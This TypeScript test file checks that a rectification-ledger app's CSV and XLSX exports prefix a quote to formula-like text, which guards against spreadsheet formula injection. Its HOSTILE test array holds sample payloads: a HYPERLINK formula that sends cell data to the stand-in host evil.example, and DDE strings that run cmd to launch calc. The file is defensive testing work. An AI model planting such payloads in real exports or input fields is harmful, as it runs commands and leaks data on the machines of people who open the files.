import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { LedgerRow } from '@app/projections';
import { ledgerCsv, ledgerXlsx, neutraliseFormula } from './ledger.js';

const row = (over: Partial<LedgerRow>): LedgerRow => ({
  findingId: '00000000-0000-4000-8000-000000000001',
  title: '食堂进货台账缺失',
  fieldName: '校园食品安全',
  pointTitle: '食材采购查验',
  departmentName: '区教育局',
  responsiblePerson: '王建国',
  rectificationType: 'deadline',
  dueOn: '2024-12-31',
  measures: '建立台账',
  progressPercent: 50,
  progressNote: null,
  status: 'rectifying',
  overdue: false,
  closedOn: null,
  reopenedCount: 0,
  description: '抽查2所学校',
  coDepartmentNames: ['城东街道'],
  target: '12月底前建立台账',
  originalDueOn: '2024-11-30',
  extensionState: 'granted',
  extensionDueOn: '2024-12-31',
  notices: 1,
  evidence: ['整改报告.pdf', '纸质台账'],
  verificationOpinion: null,
  daysLeft: 12,
  ...over,
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const rows = HOSTILE.map((text, i) =>
  row({ title: text, measures: text, responsiblePerson: i === 0 ? '=1+2' : '张三', progressNote: text }),
);

describe('ledger exports against formula injection', () => {
  it('prefixes a quote to text that starts like a formula, and only to that', () => {
    for (const text of HOSTILE) expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(neutraliseFormula('食堂 = 问题')).toBe('食堂 = 问题');
    expect(neutraliseFormula('a-b')).toBe('a-b');
    expect(neutraliseFormula(-3)).toBe(-3);
    expect(neutraliseFormula(null)).toBeNull();
  });

  it('writes an XLSX whose cells read back as quoted text, never formulas', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await ledgerXlsx(rows, '台账')) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('整改台账')!;
    for (const [i, text] of HOSTILE.entries()) {
      const r = sheet.getRow(i + 2);
      for (const column of [2, 9]) {
        const cell = r.getCell(column);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // XML turns a CR into a LF on reading; the quote in front is what matters.
        expect(cell.value).toBe(`'${text}`.replaceAll('\r', '\n'));
      }
      expect(r.getCell(10).value).toBe(`50% ${text}`.replaceAll('\r', '\n')); // starts with a digit: left alone
    }
    expect(sheet.getRow(2).getCell(6).value).toBe("'=1+2");
    expect(sheet.getRow(3).getCell(6).value).toBe('张三');
    expect(sheet.getRow(2).getCell(1).value).toBe(1);
  });

  it('writes a CSV whose fields read back as quoted text', async () => {
    const csv = ledgerCsv(rows);
    const book = new ExcelJS.Workbook();
    const sheet = await book.csv.read(Readable.from([csv.subarray(3)]));
    for (const [i, text] of HOSTILE.entries()) {
      const r = sheet.getRow(i + 2);
      expect(r.getCell(2).value).toBe(`'${text}`);
      expect(r.getCell(9).value).toBe(`'${text}`);
    }
    expect(sheet.getRow(2).getCell(6).value).toBe("'=1+2");
    for (const line of csv.toString('utf8').split('\r\n').slice(1)) {
      for (const field of line.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
        expect(field.replace(/^,/, '').replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});

describe('ledger columns of docs/domain.md "Terms"', () => {
  it('shows the original and the extended deadline, notices, evidence, opinion and days left', async () => {
    const book = new ExcelJS.Workbook();
    const one = row({ verificationOpinion: '验收未通过：材料不全', daysLeft: -3 });
    await book.xlsx.load((await ledgerXlsx([one], '台账')) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('整改台账')!;
    const header = sheet.getRow(1).values as unknown[];
    const value = (name: string) => sheet.getRow(2).getCell(header.indexOf(name)).value;
    expect(value('牵头单位')).toBe('区教育局');
    expect(value('配合单位')).toBe('城东街道');
    expect(value('责任领导')).toBe('王建国');
    expect(value('问题表现')).toBe('抽查2所学校');
    expect(value('整改目标')).toBe('12月底前建立台账');
    expect(value('原定整改时限')).toEqual(new Date('2024-11-30T00:00:00Z'));
    expect(value('整改时限')).toEqual(new Date('2024-12-31T00:00:00Z'));
    expect(value('延期情况')).toBe('已同意延期（申请至2024-12-31）');
    expect(value('督办次数')).toBe(1);
    expect(value('佐证材料')).toBe('整改报告.pdf、纸质台账');
    expect(value('验收意见')).toBe('验收未通过：材料不全');
    expect(value('重新整改次数')).toBe(0);
    expect(value('剩余天数')).toBe('超期 3 天');
    const csv = ledgerCsv([row({ daysLeft: 5, extensionState: null })]).toString('utf8');
    expect(csv).toContain('剩余 5 天');
  });
});
